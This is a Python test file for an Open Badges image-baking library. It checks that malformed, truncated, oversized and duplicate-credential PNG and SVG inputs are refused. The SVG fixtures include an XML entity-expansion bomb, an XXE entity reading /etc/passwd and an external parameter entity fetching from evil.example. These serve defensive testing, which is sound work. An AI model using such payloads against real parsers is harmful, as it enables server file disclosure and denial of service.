"""Pictures made to deceive or to exhaust: cut, damaged, huge, and XML with entities."""

import contextlib
import random
import struct
import zlib

import pytest

from badges.openbadges.baking import (
    MAX_CONTENT_BYTES,
    MAX_PICTURE_BYTES,
    BadImage,
    bake_png,
    bake_svg,
    unbake,
    unbake_png,
    unbake_svg,
)
from tests.badges.openbadges.test_baking import (
    BADGE,
    PNG,
    SVG,
    TOKEN,
    V2,
    V3,
    chunk,
    refusal,
    with_chunks,
)


@pytest.mark.parametrize("data", [b"", b"GIF89a", b"\x89PNG", b"{}", b"\xff\xd8\xff"])
def test_other_files(data: bytes) -> None:
    assert refusal(lambda: unbake(data)) == "not_an_image"
    assert refusal(lambda: unbake_png(data)) == "not_an_image"


def test_pictures_without_a_credential() -> None:
    assert refusal(lambda: unbake(PNG)) == "no_credential"
    assert refusal(lambda: unbake(SVG.encode())) == "no_credential"


@pytest.mark.parametrize("keyword", [b"openbadgecredential", b"openbadges"])
def test_other_text_chunks_are_read(keyword: bytes) -> None:
    """Older and careless writers used tEXt, or compressed the text."""
    packed = zlib.compress(TOKEN.encode())
    for kind, data in (
        (b"tEXt", TOKEN.encode()),
        (b"zTXt", b"\0" + packed),
        (b"iTXt", b"\1\0\0\0" + packed),
        (b"iTXt", b"\0\0en\0Badge\0" + TOKEN.encode()),
        (b"iTXt", b"\0\0\0\0\n" + TOKEN.encode() + b"\n"),
    ):
        baked = with_chunks((kind, keyword + b"\0" + data))
        assert unbake(baked).content == TOKEN
        again = bake_png(baked, TOKEN, V2 if keyword == b"openbadges" else V3)
        assert again.count(keyword) == 1


def test_every_cut_of_a_png_is_noticed() -> None:
    baked = bake_png(PNG, TOKEN)
    for end in range(8, len(baked), 7):
        assert refusal(lambda end=end: unbake_png(baked[:end])) == "truncated"  # type: ignore[misc]


def test_every_changed_byte_of_the_chunk_is_noticed() -> None:
    baked = bytearray(bake_png(PNG, TOKEN))
    for place in range(45, 45 + len(TOKEN), 31):
        changed = baked[:place] + bytes([baked[place] ^ 1]) + baked[place + 1 :]
        assert refusal(lambda changed=changed: unbake(bytes(changed))) == "bad_checksum"  # type: ignore[misc]


def test_bytes_after_the_end_do_not_matter() -> None:
    baked = bake_png(PNG, TOKEN)
    assert unbake(baked + b"\nmore").content == TOKEN
    assert bake_png(PNG + b"more", TOKEN) == baked


KEYWORD = b"openbadgecredential\0"


@pytest.mark.parametrize(
    ("kind", "data", "code"),
    [
        (b"iTXt", KEYWORD, "malformed_chunk"),
        (b"iTXt", KEYWORD + b"\0\0\0", "malformed_chunk"),
        (b"iTXt", KEYWORD + b"\0\0text", "malformed_chunk"),
        (b"iTXt", KEYWORD + b"\2\0\0\0text", "malformed_chunk"),
        (b"iTXt", KEYWORD + b"\1\1\0\0text", "malformed_chunk"),
        (b"iTXt", KEYWORD + b"\1\0\0\0text", "malformed_chunk"),
        (b"iTXt", KEYWORD + b"\1\0\0\0" + zlib.compress(b"x" * 99)[:-6], "truncated"),
        (b"iTXt", KEYWORD + b"\1\0\0\0" + zlib.compress(bytes(5_000_000), 9), "too_large"),
        (b"iTXt", KEYWORD + b"\0\0\0\0" + bytes(MAX_CONTENT_BYTES + 1), "too_large"),
        (b"iTXt", KEYWORD + b"\0\0\0\0\xff", "bad_content"),
        (b"iTXt", KEYWORD + b"\0\0\0\0{}{}", "bad_content"),
        (b"iTXt", KEYWORD + b"\0\0\0\0https://evil.example/", "bad_content"),
        (b"iTXt", b"openbadges\0\0\0\0\0file:///etc/passwd", "bad_content"),
        (b"tEXt", b"openbadgecredential", "malformed_chunk"),
        (b"zTXt", KEYWORD + b"\1text", "malformed_chunk"),
        (b"zTXt", KEYWORD + b"\0text", "malformed_chunk"),
        (b"IHDR", b"0123456789abc", "malformed_chunk"),
        (b"i1Xt", b"", "malformed_chunk"),
    ],
)
def test_hostile_chunks(kind: bytes, data: bytes, code: str) -> None:
    assert refusal(lambda: unbake(with_chunks((kind, data)))) == code


def test_a_second_credential_is_refused() -> None:
    """Readers that take the first and readers that take the last would see different badges."""
    first = (b"iTXt", KEYWORD + b"\0\0\0\0" + TOKEN.encode())
    for second in (first, (b"tEXt", KEYWORD + TOKEN.encode())):
        data = with_chunks(first, second)
        assert refusal(lambda data=data: unbake(data)) == "repeated_credential"  # type: ignore[misc]
    element = f'<openbadges:credential verify="{TOKEN}"/>'
    assert refusal(lambda: unbake(svg_with(element * 2))) == "repeated_credential"


def test_chunks_that_lie_about_their_length() -> None:
    lie = PNG[:33] + struct.pack(">I", 2**31) + b"iTXt" + PNG[33:]
    assert refusal(lambda: unbake(lie)) == "truncated"
    first = PNG[:8] + chunk(b"iTXt", b"x") + PNG[8:]
    assert refusal(lambda: unbake(first)) == "malformed_chunk"
    short = PNG[:8] + chunk(b"IHDR", b"x") + PNG[33:]
    assert refusal(lambda: unbake(short)) == "malformed_chunk"


def test_sizes_are_limited() -> None:
    assert refusal(lambda: unbake(PNG + bytes(MAX_PICTURE_BYTES))) == "too_large"
    assert refusal(lambda: unbake(SVG.encode() + b" " * MAX_PICTURE_BYTES)) == "too_large"
    many = with_chunks(*[(b"tEXt", b"")] * 20_001)
    assert refusal(lambda: unbake(many)) == "too_large"


def svg_with(inside: str, before: str = "") -> bytes:
    namespaces = (
        'xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"'
    )
    return f"{before}<svg {namespaces}>{inside}</svg>".encode()


BOMB = (
    '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">'
    + "".join(
        f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True)
    )
    + "]>"
)
XXE = '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
PARAMETER = '<!DOCTYPE svg [<!ENTITY % a SYSTEM "https://evil.example/x.dtd"> %a;]>'


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (
            svg_with("<openbadges:credential>&i;</openbadges:credential>", BOMB),
            "entities_not_allowed",
        ),
        (
            svg_with("<openbadges:credential>&a;</openbadges:credential>", XXE),
            "entities_not_allowed",
        ),
        (svg_with("", PARAMETER), "entities_not_allowed"),
        (svg_with("&nbsp;"), "not_xml"),
        (svg_with("<a>"), "not_xml"),
        (b"<svg", "not_xml"),
        (b"<html/>", "not_an_image"),
        (b'<svg xmlns="urn:other"/>', "not_an_image"),
        (b'<?xml version="1.0" encoding="nonsense"?><svg/>', "not_xml"),
        (svg_with("\x00"), "not_xml"),
        (svg_with("<g>" * 300 + "</g>" * 300), "too_large"),
        (svg_with("<g/>" * 100_001), "too_large"),
        (svg_with("<openbadges:credential><a/></openbadges:credential>"), "bad_content"),
        (svg_with("<openbadges:credential/>"), "bad_content"),
        (svg_with('<openbadges:credential verify="https://e.example/1"/>'), "bad_content"),
        (svg_with("<openbadges:credential>nonsense</openbadges:credential>"), "bad_content"),
        (
            svg_with(f"<openbadges:credential>{'x' * 600_000}</openbadges:credential>"),
            "too_large",
        ),
        (
            svg_with(f'<openbadges:credential verify="{TOKEN}">{{}}</openbadges:credential>'),
            "repeated_credential",
        ),
    ],
)
def test_hostile_svg(data: bytes, code: str) -> None:
    assert refusal(lambda: unbake(data)) == code
    assert refusal(lambda: unbake_svg(data)) == code


def test_a_plain_doctype_and_other_encodings_are_read() -> None:
    doctype = '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/x.dtd">'
    element = f'<openbadges:credential verify="{TOKEN}"/>'
    assert unbake(svg_with(element, doctype)).content == TOKEN
    assert unbake(b"\xef\xbb\xbf" + svg_with(element)).content == TOKEN
    declared = svg_with(element + "<text>ä</text>", '<?xml version="1.0" encoding="iso-8859-1"?>')
    latin = declared.decode().encode("latin-1")
    assert unbake(latin).content == TOKEN
    assert refusal(lambda: bake_svg(latin, TOKEN)) == "not_xml"


def test_an_element_of_another_namespace_is_no_credential() -> None:
    other = '<credential xmlns="urn:other" verify="x"/>'
    assert refusal(lambda: unbake(svg_with(other))) == "no_credential"


def test_an_svg_without_content_is_not_baked() -> None:
    assert refusal(lambda: bake_svg('<svg xmlns="http://www.w3.org/2000/svg"/>', TOKEN)) == (
        "bad_content"
    )


@pytest.mark.parametrize("baked", [bake_png(PNG, TOKEN), bake_svg(SVG, BADGE)], ids=["png", "svg"])
def test_damaged_pictures_are_refused_in_our_words(baked: bytes) -> None:
    chance = random.Random(20261120)
    for _round in range(400):
        damaged = bytearray(baked)
        for _change in range(chance.randint(1, 6)):
            place = chance.randrange(len(damaged))
            damaged[place : place + chance.randint(0, 2)] = chance.randbytes(chance.randint(0, 2))
        with contextlib.suppress(BadImage):
            assert unbake(bytes(damaged)).content
